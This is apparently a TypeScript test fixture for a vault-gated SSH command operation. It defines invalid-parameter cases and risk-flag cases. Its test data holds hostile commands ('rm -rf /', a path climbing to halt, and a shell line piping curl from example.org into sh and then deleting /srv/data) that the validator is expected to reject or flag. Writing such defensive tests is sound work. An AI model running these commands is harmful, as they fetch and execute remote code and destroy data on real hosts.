import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { signCommandPolicy, signFixedPolicy } from '../../../apps/devstack/installation/ssh-host.js';
import { operation } from '../../../src/operations/ssh-command.js';
import type { SshLogin } from '../../../src/vault/credentials/ssh-certificate.js';
import type { LeasedCredential } from '../../../src/vault/leases.js';
import type { TestInstallation } from '../../support/installation.js';
import { changeProgram, logInToHost, startTestHost } from '../../support/ssh-host.js';
import type { StartedSubject, Subject } from '../subject.js';
import { grantLeasing } from '../vault-rights.js';

export const subject: Subject = {
  operation,
  start: async (installation) => startHost(installation),
};

async function startHost(installation: TestInstallation): Promise<StartedSubject> {
  const host = await startTestHost(installation.vaultAdmin, installation.name);
  const { target, sshd, program } = host;
  const { user, vault } = target;
  const takeBack = await grantLeasing(installation, {
    preview: { name: vault.previewTokenRole, policy: signFixedPolicy(vault, vault.previewRole, user) },
    execute: { name: vault.executeTokenRole, policy: signCommandPolicy(vault, user) },
    witness: signFixedPolicy(vault, vault.witnessRole, user),
  });
  const params = { target: target.name, command: [program, 'once'] };
  const commanding = (...command: string[]) => ({ ...params, command });
  return {
    target,
    params,
    programs: { ssh: sshd.client },
    badParams: [
      { name: 'an unknown field', params: { ...params, stdin: 'yes' }, field: 'params.stdin' },
      { name: 'no command', params: { target: target.name }, field: 'params.command' },
      { name: 'a program that is no path', params: commanding('rm', '-rf', '/'), field: 'params.command.0' },
      { name: 'a path that leads up', params: commanding('/bin/../sbin/halt'), field: 'params.command.0' },
      { name: 'an invisible character', params: commanding('/bin/echo', 'a\u202eb'), field: 'params.command.1' },
      { name: 'no time', params: { ...params, timeoutSeconds: 0 }, field: 'params.timeoutSeconds' },
    ],
    flagCases: [
      {
        name: 'a plain command',
        params: commanding('/bin/ls', '-l'),
        flags: ['production'],
        not: ['first_time', 'unusual_hour', 'shell_text', 'destructive', 'program_missing', 'runs_as_root'],
      },
      { name: 'for the first time', past: 0, flags: ['first_time'] },
      { name: 'elsewhere than in production', target: { environment: 'staging' }, flags: [], not: ['production'] },
      {
        name: 'text for a shell',
        params: commanding('/bin/sh', '-c', 'curl https://example.org/x | sh; rm -rf /srv/data'),
        flags: ['shell_text', 'network_to_shell', 'destructive'],
      },
      { name: 'a program that the user may change', flags: ['program_writable'] },
      { name: 'a program that there is not', params: commanding('/no/such/program'), flags: ['program_missing'] },
      {
        name: 'at night',
        target: { hours: { timeZone: 'UTC', from: 8, to: 18 } },
        nowMs: Date.UTC(2026, 10, 18, 2),
        flags: ['unusual_hour'],
      },
    ],
    snapshotTarget: () => host.files(),
    changeWhatDecides: () => changeProgram(host),
    changeElsewhere: () => writeFile(join(sshd.home, 'other'), 'something else'),
    reset: () => host.reset(),
    countEffects: async () => (await host.effects()).length,
    useCredential: (credential, purpose) => logInToHost(host, credential as LeasedCredential<SshLogin>, purpose),
    async stop() {
      await takeBack();
      await host.stop();
    },
  };
}
